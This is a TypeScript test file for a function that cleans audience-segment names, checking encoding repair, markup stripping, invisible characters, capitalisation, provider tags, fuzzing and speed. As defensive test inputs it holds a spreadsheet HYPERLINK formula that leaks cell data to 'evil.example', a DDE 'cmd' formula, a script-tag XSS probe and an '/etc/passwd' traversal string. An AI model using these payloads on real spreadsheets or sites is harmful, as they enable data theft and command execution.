import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { leastCpuMs } from '../../test/cpu-time.ts'
import { propertyRuns } from '../../test/property-runs.ts'
import { cleanName } from './clean-name.ts'

const cases = (rows: readonly (readonly [raw: string, name: string])[]) => rows.map(([raw, name]) => ({ raw, name }))

describe('encoding and markup', () => {
  test.each(
    cases([
      ['CafÃ© Lovers', 'Café Lovers'],
      ['NestlÃƒÂ© Buyers', 'Nestlé Buyers'],
      ['Donâ€™t Miss Deals', 'Don’t Miss Deals'],
      ['Menâs Ã‰clair Fans', 'Men’s Éclair Fans'],
      ['æ—¥æœ¬èªž', '日本語'],
      ['“CAFÉ”', 'Café'],
      ['Nestlé® Buyers', 'Nestlé Buyers'],
      ['Home &amp;amp; Garden Shoppers', 'Home & Garden Shoppers'],
      ['Men&#39;s &lt;b&gt;Dress&lt;/b&gt; Shoes', "Men's Dress Shoes"],
      ['<p>Dog<br/>Owners</p>', 'Dog Owners'],
      ['<script>alert(1)</script>Luxury Cars', 'Luxury Cars'],
      ['I <3 Dogs', 'I <3 Dogs'],
    ]),
  )('$raw', ({ raw, name }) => expect(cleanName(raw)).toBe(name))
})

describe('what nobody sees', () => {
  test.each(
    cases([
      ['\ufeff\u200bWedding\u00a0 Planners\r\n', 'Wedding Planners'],
      ['\u202eLuxury Watches\u202c', 'Luxury Watches'],
      ['Car\0Buyers', 'CarBuyers'],
      ['Fam\u200dilies', 'Families'],
      ['می\u200cخواهم', 'می\u200cخواهم'],
      ['क्\u200dष', 'क्\u200dष'],
      ['Cafe\u0301 Lovers', 'Café Lovers'],
      ['👩‍👧 Moms of Teens 🇺🇸 1️⃣', 'Moms of Teens'],
      ['Wine & Cheese 🍷🧀 Pairings', 'Wine & Cheese Pairings'],
      ["Women's Running Shoes ®", "Women's Running Shoes"],
    ]),
  )('%j', ({ raw, name }) => expect(cleanName(raw)).toBe(name))
})

describe('quotes, bullets, punctuation', () => {
  test.each(
    cases([
      ['""Theme Park Visitors""', 'Theme Park Visitors'],
      ['\\"Bible Study Groups\\"', 'Bible Study Groups'],
      ['„Autos“', 'Autos'],
      ["'Kids' Shoes'", "Kids' Shoes"],
      ['"A" and "B"', '"A" and "B"'],
      ['"Toys "R" Us Shoppers"', 'Toys "R" Us Shoppers'],
      ['TVs 55"', 'TVs 55"'],
      ["Dunkin'", "Dunkin'"],
      ['- Sci-Fi Series Viewers', 'Sci-Fi Series Viewers'],
      ['• Dog Owners ;', 'Dog Owners'],
      ['NFL Fans.', 'NFL Fans'],
      ['Procter & Gamble Co.', 'Procter & Gamble Co.'],
      ['.NET Developers', '.NET Developers'],
      ['Unlimited_Mobile_Plan_Switchers', 'Unlimited Mobile Plan Switchers'],
      ['-50% Deal Hunters', '-50% Deal Hunters'],
      ['@Home Fitness Fans', '@Home Fitness Fans'],
    ]),
  )('$raw', ({ raw, name }) => expect(cleanName(raw)).toBe(name))
})

describe('formulas are kept literally', () => {
  test.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '=1+1',
    '=A1&B2',
  ])('%s', (formula) => {
    expect(cleanName(formula)).toBe(formula)
    expect(cleanName(`\t"${formula}"`)).toBe(formula)
  })

  test('a sign before plain words is an artefact', () => {
    expect(cleanName('=Luxury Car Buyers')).toBe('Luxury Car Buyers')
  })
})

describe('capitals', () => {
  test.each(
    cases([
      ['CAR BATTERY REPLACEMENT', 'Car Battery Replacement'],
      ['parents of newborns', 'Parents of Newborns'],
      ['401(K) ROLLOVER PROSPECTS', '401(k) Rollover Prospects'],
      ['wOrD PuZzLe gAmErS', 'Word Puzzle Gamers'],
      ['lUxurY cAR buYErs', 'Luxury Car Buyers'],
      ['crm software for cfos', 'CRM Software for CFOs'],
      ['executive mba prospects', 'Executive MBA Prospects'],
      ['NFL FANS WITH 4K TVS', 'NFL Fans with 4K TVs'],
      ['iphone case shoppers', 'iPhone Case Shoppers'],
      ['DEWALT POWER TOOL BUYERS', 'DeWalt Power Tool Buyers'],
      ["MCDONALD'S FANS", "McDonald's Fans"],
      ['at&t customers', 'AT&T Customers'],
      ['it decision makers', 'IT Decision Makers'],
      ['do it yourself fans', 'Do It Yourself Fans'],
      ['bride-to-be', 'Bride-to-Be'],
      ['90S MUSIC AND R&B', '90s Music and R&B'],
      ['household income $200k+', 'Household Income $200K+'],
      ['PIZZA', 'Pizza'],
      ['HDTV', 'HDTV'],
      ['SUVs', 'SUVs'],
      ['eBay buyers', 'eBay buyers'],
      ['Zapatos para Correr', 'Zapatos para Correr'],
      ['YouTube TV Subscribers', 'YouTube TV Subscribers'],
      ['../../etc/passwd', '../../etc/passwd'],
      ['АВТОМОБИЛИ', 'АВТОМОБИЛИ'],
    ]),
  )('$raw', ({ raw, name }) => expect(cleanName(raw)).toBe(name))
})

describe('what a provider adds', () => {
  test.each(
    cases([
      ['Zorblax Data - Luxury SUV Intenders', 'Luxury SUV Intenders'],
      ['[Zorblax] Dog Owners', 'Dog Owners'],
      ['Zorblax: Credit Card Applicants', 'Credit Card Applicants'],
      ['Experian - Credit Card Seekers', 'Credit Card Seekers'],
      ['Magic: The Gathering Players', 'Magic: The Gathering Players'],
      ['Owners - Pickup Truck', 'Owners - Pickup Truck'],
      ['Age: 25-34', 'Age: 25-34'],
      ['In-Market - Luxury Sedans', 'Luxury Sedans'],
      ['US_Term Life Insurance Quotes', 'Term Life Insurance Quotes'],
      ['UK: Dog Owners', 'Dog Owners'],
      ['US_Bank_Customers', 'US Bank Customers'],
      ['Dog Owners - 30D', 'Dog Owners'],
      ['Dog Owners_90d', 'Dog Owners'],
      ['Dog Owners (Last 30 Days)', 'Dog Owners'],
      ['Canon EOS 90D', 'Canon EOS 90D'],
      ['Printing - 3D', 'Printing - 3D'],
      ['Dog Owners [12345]', 'Dog Owners'],
      ['Dog Owners (2024)', 'Dog Owners (2024)'],
      ['Dog Owners (CPM $1.25)', 'Dog Owners'],
      ['NEW! Dog Owners', 'Dog Owners'],
      ['Yahoo! Mail Users', 'Yahoo! Mail Users'],
      ['Adults 25-34 v2', 'Adults 25-34'],
      ['Ford Mustang V8', 'Ford Mustang V8'],
      ['Dog Owners (copy)', 'Dog Owners'],
      ['Copy of Dog Owners - Copy 2', 'Dog Owners'],
      ['[Zorblax] US_NEW! dog owners - 30D (v2) [99812] (copy)', 'Dog Owners'],
    ]),
  )('$raw', ({ raw, name }) => expect(cleanName(raw)).toBe(name))
})

test.each(['', '   ', '\u200b', '""', '-', '…', '🙂', 'N/A', 'null', '#REF!', '(blank)', ' > > '])(
  'nothing names a topic in %j',
  (raw) => expect(cleanName(raw)).toBe(''),
)

const unwanted = /\p{Cc}|[\u00ad\u061c\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]/u
const looseJoiner = /(?<![\u0900-\u1fff\p{sc=Arab}\p{sc=Syrc}\p{sc=Mong}\p{sc=Nkoo}\p{sc=Mand}])[\u200c\u200d]/u

function expectClean(raw: string): void {
  const name = cleanName(raw)
  const problem = !name.isWellFormed()
    ? 'ill-formed'
    : unwanted.test(name) || looseJoiner.test(name)
      ? 'invisible'
      : name !== name.trim() || /\s\s/.test(name)
        ? 'white space'
        : name !== name.normalize('NFC')
          ? 'not NFC'
          : cleanName(name) !== name
            ? 'not idempotent'
            : ''
  // One expectation a case: a hundred thousand of five each would take longer than the cleaning.
  if (problem !== '')
    expect.fail(
      `${problem}: ${JSON.stringify(raw)} became ${JSON.stringify(name)}, then ${JSON.stringify(cleanName(name))}`,
    )
}

/** Whatever the rules look for, in any order and nesting. */
const pieces = fc.constantFrom(
  ...'Dog|owners|LUXURY|suv|Zorblax|Data|wOrD|iPhone|it|of|the|401(k)|4k|$200K+|25-34'.split('|'),
  ...'é|É|ß|ﬁ|İ|ı|Ω|дом|車|क्|ष|می|خ|e\u0301|\u0dd9|\u0dca'.split('|'),
  ...' |  |\t|\n|\u00a0|\u200b|\u200c|\u200d|\u202e|\ufeff|\0|\x80|\x99|\ud800|\udc00|\ufe0f|\u20e3'.split('|'),
  ...`"|""|'|“|”|‘|’|«|»|\\"|\\|\`|„|(|)|[|]|{|}|<|>`.split('|'),
  ...'&|&amp;|amp;|&lt;|&gt;|&#38;|&#x26;|#38;|&quot;|&nbsp;|&#0;|<b>|</b>|<br>|<script>|</script>|<!--|-->'.split('|'),
  ...'Ã|Â|â|€|™|©|®|ƒ|ð|Ÿ|Ð|°|ï|»|¿|Ã©|â€™|(R)|(TM)|😀|🇺🇸|👩|#|*|1'.split('|'),
  ...'=|+|-|@| - | – |: |:|::|;|,|.|..|…|!|?|_|__|/| / |%00|•|- |* |~|^|$|€'.split('|'),
  ...'US_|US: |[US] |NEW! |[NEW]|*NEW*|(copy)| - copy|Copy of |_copy| v2|(v2)|_v2| V8'.split('|'),
  ...' - 30D|_90d|(Last 30 Days)|[12345]|(id: 7)|(CPM $1.25)| - $1 CPM|#12345|()|[]'.split('|'),
  ..."N/A|null|#REF!|=1+1|+1|=SUM(|A1|cmd|'!|Zorblax: |[Zorblax] |Zorblax - |Experian - |Age: ".split('|'),
  '|',
  'A'.repeat(45),
)

describe('whatever the text', () => {
  test('a clean name is well-formed, visible, trimmed, and stays as it is', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 40 }), expectClean), { numRuns: propertyRuns })
  })

  test('so is one made of what the rules look for', () => {
    const text = fc.array(pieces, { maxLength: 12 }).map((each) => each.join(''))
    fc.assert(fc.property(text, expectClean), { numRuns: propertyRuns })
  })
})

describe('hostile length', () => {
  const units = [
    ...`A| |"|'|" |&amp;|&|<|<b>|<script>|<!--|(|[a] |[|_|-| - |.|=|\\"|Ã|Ãƒ|é|É”|😀`.split('|'),
    ...'\u200d|\u0301|\ud800|क्\u200d| (copy)|US_|NEW! |Copy of |a: |/| / |>|aB|1|& '.split('|'),
    ...'&#38;| v2|(R)|a |.,;:|LuXuRy |Zorblax - |[12345]|http://'.split('|'),
    '|',
  ]

  test.each([1_000, 100_000])('%i characters take less than 20 ms', (length) => {
    for (const unit of units) {
      const text = unit.repeat(Math.trunc(length / unit.length))
      const took = leastCpuMs(() => cleanName(text), 20)
      expect(took, `${JSON.stringify(unit)} took ${took} ms`).toBeLessThan(20)
    }
  })
})
